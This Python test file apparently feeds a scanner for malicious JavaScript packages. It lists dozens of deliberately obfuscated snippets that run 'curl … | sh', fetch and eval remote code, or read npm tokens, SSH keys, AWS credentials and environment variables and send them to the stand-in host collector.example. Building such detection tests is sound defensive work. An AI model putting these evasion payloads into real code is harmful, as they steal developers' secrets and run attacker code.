r"""Attacks whose words come from elsewhere: of values, paths, written files, other files."""

from evasions_js import NPMRC, RUN, SEND, Case, b64, codes

_CP = "require('child_process')"
_CURL = "'curl -fsSL https://collector.example/x | sh'"
_X = f".execSync({_CURL})"
_HOME = "const os=require('os'),fs=require('fs'),path=require('path'),h=os.homedir();"
_POST = f"{SEND}(s);"
_D = f"Buffer.from('{b64(RUN)}','base64').toString()"
_READ = "const s=fs.readFileSync(p,'utf8');" + _POST

VALUES: dict[str, Case] = {
    "name of a member": f"const o={{m:'child_process'}};require(o.m){_X}",
    "name of a nested member": f"const o={{a:{{m:'child_process'}}}};require(o.a.m){_X}",
    "name of an item": f"const l=['fs','child_process'];require(l[1]){_X}",
    "name joined": f"require(['child','process'].join('_')){_X}",
    "name by a ternary": f"require(process.pid>1?'child_process':'fs'){_X}",
    "name by default": f"function r(m='child_process'){{return require(m)}}\nr(){_X}",
    "name by parameter": f"function r(m){{return require(m)}}\nr('child_process'){_X}",
    "name by template": "const a='process';require(`child_${a}`).execSync(" + _CURL + ")",
    "name raw": f"require(String.raw`child_process`){_X}",
    "name by concat": f"require('child'.concat('_','process')){_X}",
    "name by replace": f"require('child-process'.replace('-','_')){_X}",
    "name by pattern": f"require('cXhXild_prXocess'.replace(/X/g,'')){_X}",
    "name backwards": f"require('ssecorp_dlihc'.split('').reverse().join('')){_X}",
    "name backwards, spread": f"require([...'ssecorp_dlihc'].reverse().join('')){_X}",
    "name of bytes": f"require(Buffer.from([{codes('child_process')}]).toString()){_X}",
    "name of hex": f"require(Buffer.from('{b'child_process'.hex()}','hex')+''){_X}",
    "name of codes": f"require(String.fromCharCode(...[{codes('child_process')}])){_X}",
    "name of mapped codes": "require(["
    + ",".join(str(ord(c) + 3) for c in "child_process")
    + f"].map(c=>String.fromCharCode(c-3)).join('')){_X}",
    "name of xor": "require(["
    + ",".join(str(ord(c) ^ 42) for c in "child_process")
    + f"].map(c=>String.fromCharCode(c^42)).join('')){_X}",
    "name summed": f"let m='child';m+='_process';require(m){_X}",
    "name sliced": f"require('xxchild_processyy'.slice(2,-2)){_X}",
    "name escaped": f"require('\\x63hild_\\u0070rocess'){_X}",
    "name in a template": f"require(`child_process`){_X}",
    "name in a map": f"const m=new Map([['a','child_process']]);require(m.get('a')){_X}",
    "name parsed": f"require(JSON.parse('\"child_process\"')){_X}",
    "name of keys": f"require(Object.keys({{child_process:1}})[0]){_X}",
    "name padded": f"require('process'.padStart(13,'child_')){_X}",
    "name reduced": f"require(['child_','process'].reduce((a,b)=>a+b)){_X}",
    "name lowered": f"require('CHILD_PROCESS'.toLowerCase()){_X}",
    "name of at": f"require(['child_process'].at(0)){_X}",
    "name popped": f"require(['child_process'].pop()){_X}",
    "method joined": f"{_CP}[['ex','ecSync'].join('')]({_CURL})",
    "method of a name": f"const k='exec'+'Sync';{_CP}[k]({_CURL})",
    "method by template": f"const k='Sync';{_CP}[`exec${{k}}`]({_CURL})",
    "command joined": f"{_CP}.execSync(['curl','https://collector.example/x','|','sh'].join(' '))",
    "command of parts": "const a='cu'+'rl',b='s'+'h';"
    + _CP
    + ".execSync(a+' https://collector.example/x | '+b)",
    "command decoded": f"{_CP}.execSync(Buffer.from('{b64(_CURL[1:-1])}','base64').toString())",
    "address of members": "const o={h:'https://collector.example',p:'/x'};"
    "fetch(o.h+o.p).then(r=>r.text()).then(eval)",
    "address joined": "fetch(['https:','','collector.example','a'].join('/'))"
    ".then(r=>r.text()).then(t=>eval(t))",
    "fetch joined": "globalThis['fet'+'ch']('https://collector.example/a')"
    ".then(r=>r.text()).then(t=>eval(t))",
    "https joined": f"const s={NPMRC};require('ht'+'tps').request("
    "{host:'collector.example',method:'POST'}).end(s)",
    "https by name": f"const m='https',s={NPMRC};const t=require(m);"
    "t.request({host:'collector.example',method:'POST'}).end(s)",
    "https, its answer": f"const r=require('https').request({{host:'collector.example'}});"
    f"const s={NPMRC};r.end(s)",
    "http2": f"const s={NPMRC};const c=require('http2').connect('https://collector.example');"
    "const r=c.request({':method':'POST'});r.end(s)",
    "net": f"const s={NPMRC};require('net').connect(443,'collector.example').write(s)",
    "dns": f"const s={NPMRC};require('dns').resolve(Buffer.from(s).toString('hex').slice(0,60)"
    "+'.collector.example',()=>{})",
    "dns of promises": f"const s={NPMRC};const {{promises:d}}=require('dns');"
    "d.resolveTxt(Buffer.from(s).toString('hex')+'.collector.example')",
    "dgram": f"const s={NPMRC};const u=require('dgram').createSocket('udp4');"
    "u.send(s,53,'collector.example')",
    "address of the secret": f"const s={NPMRC};require('https').get("
    "'https://collector.example/?'+encodeURIComponent(s))",
    "pipe": "const r=require('https').request({host:'collector.example',method:'POST'});"
    "require('fs').createReadStream(require('os').homedir()+'/.npmrc').pipe(r)",
    "callback": f"require('fs').readFile(require('os').homedir()+'/.npmrc',(e,d)=>{{{SEND}(d)}})",
    "promise of a file": "require('fs').promises.readFile(require('os').homedir()+'/.npmrc')"
    f".then(d=>{SEND}(d))",
    "curl with a file": f"{_CP}.execFileSync('curl',['-T',require('os').homedir()+'/.npmrc',"
    "'https://collector.example'])",
    "cat by a process": f"const s={_CP}.execSync('cat ~/.npmrc');{_POST}",
}

ENVIRONMENT: dict[str, Case] = {
    "destructured twice": f"const {{env}}=process;const {{NPM_TOKEN:t}}=env;{SEND}(t)",
    "destructured deep": f"const {{env:{{NPM_TOKEN:t}}}}=process;{SEND}(t)",
    "destructured": f"const {{NPM_TOKEN}}=process.env;{SEND}(NPM_TOKEN)",
    "of an alias": f"const p=process;{SEND}(p.env.NPM_TOKEN)",
    "env of an alias": f"const e=process.env;{SEND}(e.NPM_TOKEN)",
    "all of an alias": f"const p=process;const s=JSON.stringify(p.env);{_POST}",
    "all of env": f"const {{env}}=process;const s=JSON.stringify(env);{_POST}",
    "entries": f"const s=Object.entries(process.env).map(x=>x.join('=')).join();{_POST}",
    "entries of env": f"const {{env:e}}=process;const s=Object.entries(e).join();{_POST}",
    "spread": f"const s=JSON.stringify({{...process.env}});{_POST}",
    "spread of an alias": f"const e=process.env;const s=JSON.stringify({{...e}});{_POST}",
    "assign": f"const s=JSON.stringify(Object.assign({{}},process.env));{_POST}",
    "required": f"const s=JSON.stringify(require('process').env);{_POST}",
    "required by node:": f"const s=JSON.stringify(require('node:process').env);{_POST}",
    "imported": f"import p from 'node:process';const s=JSON.stringify(p.env);{_POST}",
    "imported by name": f"import {{env}} from 'process';const s=JSON.stringify(env);{_POST}",
    "imported all": f"import * as p from 'process';const s=JSON.stringify(p.env);{_POST}",
    "member by text": f"{SEND}(process['env']['NPM_TOKEN'])",
    "member joined": f"{SEND}(JSON.stringify(process['e'+'nv']))",
    "member by name": f"const k='env';{SEND}(JSON.stringify(process[k]))",
    "token joined": f"{SEND}(process.env['NPM_'+'TOKEN'])",
    "token by name": f"const k='NPM_TOKEN';{SEND}(process.env[k])",
    "token of a list": "const s=['NPM_TOKEN','GITHUB_TOKEN'].map(k=>process.env[k]).join();"
    f"{_POST}",
    "token in a loop": "let s='';for(const k of ['NPM_TOKEN','AWS_SECRET_ACCESS_KEY'])"
    f"s+=process.env[k];{_POST}",
    "filtered": "const s=Object.keys(process.env).filter(k=>/TOKEN|KEY|SECRET/.test(k))"
    f".map(k=>process.env[k]).join();{_POST}",
    "loop": "const o={};for(const k in process.env)o[k]=process.env[k];"
    f"const s=JSON.stringify(o);{_POST}",
    "loop of an alias": "const e=process.env,o={};for(const k in e)o[k]=e[k];"
    f"const s=JSON.stringify(o);{_POST}",
    "global": f"{SEND}(JSON.stringify(globalThis.process.env))",
    "global by text": f"{SEND}(JSON.stringify(globalThis['process']['env']))",
    "global joined": f"{SEND}(JSON.stringify(global['pro'+'cess'].env))",
    "optional": f"{SEND}(JSON.stringify(process?.env))",
    "parentheses": f"{SEND}(JSON.stringify((process).env))",
    "parameter": f"(function(p){{{SEND}(JSON.stringify(p.env))}})(process)",
    "Reflect": f"{SEND}(JSON.stringify(Reflect.get(process,'env')))",
    "inspect": f"{SEND}(require('util').inspect(process.env))",
    "template": f"{SEND}(`${{JSON.stringify(process.env)}}`)",
    "base64": f"{SEND}(Buffer.from(JSON.stringify(process.env)).toString('base64'))",
    "by command": f"const s=require('child_process').execSync('env').toString();{_POST}",
    "printenv": f"const s=require('child_process').execSync('printenv');{_POST}",
    "proc": f"const s=require('fs').readFileSync('/proc/self/environ');{_POST}",
    "report": f"const s=JSON.stringify(process.report.getReport());{_POST}",
}

PATHS: dict[str, Case] = {
    "join, split words": f"{_HOME}const p=path.join(h,'.s'+'sh','id_'+'rsa');{_READ}",
    "join": f"{_HOME}const p=path.join(h,'.ssh','id_rsa');{_READ}",
    "list": f"{_HOME}const p=[h,'.aws','credentials'].join('/');{_READ}",
    "list, split words": f"{_HOME}const p=[h,'.a'+'ws','cred'+'entials'].join('/');{_READ}",
    "template": f"{_HOME}const p=`${{h}}/.npmrc`;{_READ}",
    "template, split words": f"{_HOME}const n='npmrc';const p=`${{h}}/.${{n}}`;{_READ}",
    "HOME": f"{_HOME}const p=process.env.HOME+'/.npmrc';{_READ}",
    "HOME, split words": f"{_HOME}const p=process.env.HOME+'/.np'+'mrc';{_READ}",
    "resolve of a spread": f"{_HOME}const p=path.resolve(h,...['.ssh','id_rsa']);{_READ}",
    "resolve of split words": f"{_HOME}const p=path.resolve(h,...['.s'+'sh','id'+'_rsa']);{_READ}",
    "base64": f"{_HOME}const p=h+Buffer.from('{b64('/.npmrc')}','base64').toString();{_READ}",
    "atob": f"{_HOME}const p=h+atob('{b64('/.ssh/id_rsa')}');{_READ}",
    "hex": f"{_HOME}const p=h+Buffer.from('{b'/.npmrc'.hex()}','hex').toString();{_READ}",
    "codes": f"{_HOME}const p=h+String.fromCharCode({codes('/.npmrc')});{_READ}",
    "escapes": f"{_HOME}const p=h+'/\\x2enp\\u006drc';{_READ}",
    "backwards": f"{_HOME}const p=h+'crmpn./'.split('').reverse().join('');{_READ}",
    "concat": f"{_HOME}const p=h.concat('/.np','mrc');{_READ}",
    "replace": f"{_HOME}const p=h+'/.nXpmrc'.replace('X','');{_READ}",
    "member": f"{_HOME}const o={{f:'.np'+'mrc'}};const p=path.join(h,o.f);{_READ}",
    "parameter": f"{_HOME}function g(f){{return fs.readFileSync(path.join(h,f))}}\n"
    f"const s=g('.np'+'mrc');{_POST}",
    "list of files": f"{_HOME}const s=['.np'+'mrc','.net'+'rc'].map(f=>fs.readFileSync("
    f"path.join(h,f),'utf8')).join();{_POST}",
    "change of folder": f"{_HOME}process.chdir(h);const s=fs.readFileSync('.npmrc');{_POST}",
    "folder read": f"{_HOME}const d=path.join(h,'.ssh');const s=fs.readdirSync(d)"
    f".map(f=>fs.readFileSync(path.join(d,f)));{_POST}",
    "userInfo": f"{_HOME}const p=os.userInfo().homedir+'/.np'+'mrc';{_READ}",
    "URL": f"{_HOME}const p=new URL('file://'+h+'/.npmrc');{_READ}",
    "HOME by text": f"{_HOME}const p=path.join(process.env['HOME'],'.n'+'pmrc');{_READ}",
    "separator": f"{_HOME}const p=h+path.sep+'.ssh'+path.sep+'id_rsa';{_READ}",
    "summed": f"{_HOME}let p=h;p+='/.np';p+='mrc';{_READ}",
}

_PUT = "const fs=require('fs');"
_BIN = "require('https').get('https://collector.example/a',r=>r.pipe(fs.createWriteStream(f))"

WRITTEN: dict[str, Case] = {
    "decoded, required": f"{_PUT}fs.writeFileSync('./x.js',{_D});require('./x.js')",
    "decoded, imported": f"{_PUT}fs.writeFileSync('./x.mjs',{_D});import('./x.mjs')",
    "decoded, as bytes": f"{_PUT}fs.writeFileSync('./x.js','{b64(RUN)}','base64');"
    "require('./x.js')",
    "decoded, as a buffer": f"{_PUT}const f=__dirname+'/x.js';"
    f"fs.writeFileSync(f,Buffer.from('{b64(RUN)}','base64'));require(f)",
    "decoded, joined": f"{_PUT}const f=require('path').join(require('os').tmpdir(),'x.js');"
    f"fs.writeFileSync(f,{_D});require(f)",
    "decoded, forked": f"{_PUT}const f='/tmp/x.js';fs.writeFileSync(f,{_D});{_CP}.fork(f)",
    "decoded, spawned": f"{_PUT}const f='/tmp/x';fs.writeFileSync(f,{_D},{{mode:0o755}});"
    f"{_CP}.spawn(f)",
    "decoded, by node": f"{_PUT}const f='/tmp/x.js';fs.writeFileSync(f,{_D});"
    f"{_CP}.execSync('node '+f)",
    "decoded, made executable": f"{_PUT}const f='/tmp/x';fs.writeFileSync(f,{_D});"
    f"fs.chmodSync(f,0o755);{_CP}.execFile(f)",
    "decoded, a worker": f"{_PUT}const f='/tmp/x.js';fs.writeFileSync(f,{_D});"
    "new (require('worker_threads').Worker)(f)",
    "decoded, by promise": f"const fs=require('fs/promises');fs.writeFile('/tmp/x.js',{_D})"
    ".then(()=>require('/tmp/x.js'))",
    "decoded, by callback": f"{_PUT}fs.writeFile('/tmp/x.js',{_D},()=>require('/tmp/x.js'))",
    "decoded, by a name": f"{_PUT}const w=fs.writeFileSync,r=require;w('./x.js',{_D});r('./x.js')",
    "fetched, required": "const fs=require('fs');fetch('https://collector.example/a')"
    ".then(r=>r.text()).then(t=>{fs.writeFileSync('/tmp/x.js',t);require('/tmp/x.js')})",
    "fetched, imported": "const fs=require('fs');(async()=>{const t=await (await fetch("
    "'https://collector.example/a')).text();fs.writeFileSync('/tmp/x.mjs',t);"
    "await import('/tmp/x.mjs')})()",
    "fetched, by pipe": f"{_PUT}const f='/tmp/x.js';{_BIN}.on('finish',()=>require(f)))",
    "fetched, by node": f"{_PUT}const f='/tmp/x.js';{_BIN}"
    f".on('finish',()=>{_CP}.spawn('node',[f])))",
    "fetched, detached": f"{_PUT}const f='/tmp/x';{_BIN}"
    f".on('finish',()=>{{fs.chmodSync(f,0o755);{_CP}.spawn(f,[],{{detached:true,"
    "stdio:'ignore'}).unref()}))",
}

ACROSS: dict[str, Case] = {
    "text of a module": {
        "index.js": "eval(Buffer.from(require('./a'),'base64').toString())",
        "a.js": f"module.exports='{b64(RUN)}'",
    },
    "text of an export": {
        "index.js": "const {p}=require('./lib/a.js');eval(atob(p))",
        "lib/a.js": f"exports.p='{b64(RUN)}'",
    },
    "text of JSON": {
        "index.js": "const d=require('./d.json');eval(atob(d.p))",
        "d.json": f'{{"p":"{b64(RUN)}"}}',
    },
    "text of JSON, read": {
        "index.js": "const d=JSON.parse(require('fs').readFileSync(__dirname+'/d.json'));"
        "eval(atob(d.p))",
        "d.json": f'{{"p":"{b64(RUN)}"}}',
    },
    "text of a file, read": {
        "index.js": "eval(Buffer.from(require('fs').readFileSync(__dirname+'/d.txt','utf8'),"
        "'base64').toString())",
        "d.txt": b64(RUN),
    },
    "code of a file, read": {
        "index.js": "eval(require('fs').readFileSync(__dirname+'/d.txt','utf8'))",
        "d.txt": RUN,
    },
    "text of the manifest": {
        "index.js": "eval(Buffer.from(require('./package.json').config.p,'base64')+'')",
        "package.json": f'{{"config":{{"p":"{b64(RUN)}"}}}}',
    },
    "imported text": {
        "index.js": "import p from './a.mjs';eval(atob(p))",
        "a.mjs": f"export default '{b64(RUN)}'",
    },
    "imported by name": {
        "index.js": "import {p} from './a.mjs';eval(atob(p))",
        "a.mjs": f"export const p='{b64(RUN)}'",
    },
    "command of another": {
        "index.js": "require('child_process').execSync(require('./a').c)",
        "a.js": "exports.c='curl -fsSL https://collector.example/x | sh'",
    },
    "module's name of another": {
        "index.js": "const n=require('./a');require(n.m)[n.f](n.c)",
        "a.js": "module.exports={m:'child_process',f:'execSync',"
        "c:'curl -fsSL https://collector.example/x | sh'}",
    },
    "path of another": {
        "index.js": f"{_HOME}const p=path.join(h,require('./a').f);{_READ}",
        "a.js": "exports.f='.npmrc'",
    },
    "runner of another": {
        "index.js": f"require('./a')({_D})",
        "a.js": "module.exports=eval",
    },
    "reader and sender apart": {
        "index.js": "const s=require('./r')();require('./s')(s)",
        "r.js": f"module.exports=()=>{NPMRC}",
        "s.js": f"module.exports=s=>{SEND}(s)",
    },
}
